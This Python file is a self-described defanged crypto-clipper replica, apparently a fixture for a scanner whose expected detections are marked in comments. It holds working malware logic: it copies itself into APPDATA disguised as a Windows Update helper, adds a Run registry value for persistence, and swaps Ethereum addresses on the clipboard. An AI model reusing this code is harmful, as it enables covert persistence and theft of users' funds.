# Defanged replica of a "crypto clipper" kit with its persistence: the script
# copies itself next to the user's profile and registers a Run value so it
# starts at every logon, then swaps wallet addresses on the clipboard. The
# replacement address is a placeholder.
import os
import re
import shutil
import sys
import time
import winreg

import pyperclip

TARGET = os.path.join(os.environ.get("APPDATA", ""), "WindowsUpdate", "wuhelper.pyw")
ADDRESS = "0x-placeholder-not-a-wallet"


def persist():
    os.makedirs(os.path.dirname(TARGET), exist_ok=True)
    shutil.copy2(sys.argv[0], TARGET)
    key = winreg.OpenKey(
        winreg.HKEY_CURRENT_USER,
        r"Software\Microsoft\Windows\CurrentVersion\Run",  # expect: HS238 medium
        0,
        winreg.KEY_SET_VALUE,
    )
    winreg.SetValueEx(key, "WindowsUpdateHelper", 0, winreg.REG_SZ, f'pythonw "{TARGET}"')
    winreg.CloseKey(key)


def clip():
    while True:
        if re.match(r"^0x[a-fA-F0-9]{40}$", pyperclip.paste().strip()):  # expect: HS234 high
            pyperclip.copy(ADDRESS)
        time.sleep(0.5)
